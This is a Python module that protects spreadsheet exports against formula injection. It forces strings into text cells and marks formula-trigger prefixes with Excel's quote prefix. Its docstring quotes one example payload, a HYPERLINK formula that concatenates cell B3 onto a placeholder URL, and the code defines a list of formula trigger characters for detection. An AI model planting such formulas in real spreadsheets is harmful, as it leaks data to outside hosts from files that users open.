"""Every cell the application writes into a spreadsheet goes through here, so text stays text.

openpyxl decides a cell's type from its value: a string longer than one character that starts with "=" becomes a
formula (data type "f", written as <f>), and one of Excel's error codes ("#N/A", "#REF!" …) an error. A party named
`=HYPERLINK("http://x"&B3,"点击查看")` would then be a live formula in the file a judge opens (spreadsheet formula
injection, OWASP "CSV injection"). Here every string is a string cell (data type "s", written as an inline string,
which Excel shows as it is and never evaluates); a string that Excel would read as a formula if the cell were
edited — starting with = + - @, a tab or a carriage return — also carries Excel's quote prefix (the style flag of
a value typed after an apostrophe), so editing the cell keeps it text too. Numbers, Decimals and dates that the
system computes keep their types.

- `cell(sheet, value, font=…, number_format=…, alignment=…)`: one cell of a write-only sheet, styled.
- `row(sheet, values)`: a row for `sheet.append`; strings that need it become text cells, other values stay.
"""
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.cell.rich_text import CellRichText

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_text(value) -> bool:
    return isinstance(value, str) and not isinstance(value, CellRichText)


def _as_text(target: Cell, value: str) -> Cell:
    target.data_type = "s"  # whatever openpyxl inferred from the value ("f" for "=…", "e" for "#N/A")
    if value.startswith(FORMULA_TRIGGERS):
        target.quotePrefix = True
    return target


def cell(sheet, value, *, font=None, number_format=None, alignment=None) -> Cell:
    """A cell for a write-only sheet; a string is always a text cell (see the module docstring)."""
    if _is_text(value):
        value = str(value)
    target = WriteOnlyCell(sheet, value=value)
    if _is_text(value):
        _as_text(target, value)
    if font is not None:
        target.font = font
    if number_format is not None:
        target.number_format = number_format
    if alignment is not None:
        target.alignment = alignment
    return target


def needs_cell(value) -> bool:
    """Would openpyxl, or Excel on editing, read this string as something other than text?"""
    return _is_text(value) and (value.startswith(FORMULA_TRIGGERS) or value.startswith("#"))


def row(sheet, values) -> list:
    """Values for `sheet.append`: plain values as they are (openpyxl stores them by type, a plain string as text),
    strings that could be read as a formula or an error code as text cells; cells made by `cell` pass through."""
    return [cell(sheet, value) if needs_cell(value) else value for value in values]

